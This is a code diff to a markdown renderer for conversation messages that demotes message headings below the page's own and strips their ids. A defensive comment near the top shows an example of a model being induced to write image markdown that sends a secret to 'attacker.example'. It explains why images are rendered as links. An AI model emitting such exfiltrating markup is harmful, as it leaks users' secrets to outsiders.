@@ -19,7 +19,8 @@ import styles from './conversation.module.css';
  *   not a link). Links open in a new tab with `rel="noopener noreferrer nofollow"`.
  * - Images become links to the image: nothing is fetched by merely reading a message (a model
  *   can be talked into writing `![](https://attacker.example/?q=<secret>)`).
- * - Headings get no `id` (message text must not name elements of the page).
+ * - Headings get no `id` (message text must not name elements of the page), and sit below the
+ *   page's own headings (`heading`).
  */
 
 const REL = 'noopener noreferrer nofollow';
@@ -85,7 +86,14 @@ function ScrollingTable(props: ComponentProps<'table'>) {
  * or Hebrew reads right to left while the English paragraph beside it stays left to right.
  */
 const ownDirection = { props: { dir: 'auto' } };
-const noId = { props: { id: undefined, dir: 'auto' } };
+
+/**
+ * A message's headings sit below the page's own (its h1 is the post's or thread's title, and a
+ * screen reader's list of headings is how many people find their way on a page): `#` becomes an
+ * h3, `##` an h4, anything deeper an h5 or h6. `data-level` keeps the size the writer asked for.
+ * No `id`: message text must not name elements of the page.
+ */
+const heading = (tag: 'h3' | 'h4' | 'h5' | 'h6', level: number) => ({ component: tag, props: { id: undefined, dir: 'auto', 'data-level': String(level) } });
 
 const OPTIONS: MarkdownToJSX.Options = {
   disableParsingRawHTML: true,
@@ -105,12 +113,12 @@ const OPTIONS: MarkdownToJSX.Options = {
     blockquote: ownDirection,
     td: ownDirection,
     th: ownDirection,
-    h1: noId,
-    h2: noId,
-    h3: noId,
-    h4: noId,
-    h5: noId,
-    h6: noId,
+    h1: heading('h3', 1),
+    h2: heading('h4', 2),
+    h3: heading('h5', 3),
+    h4: heading('h6', 4),
+    h5: heading('h6', 5),
+    h6: heading('h6', 6),
   },
 };
 
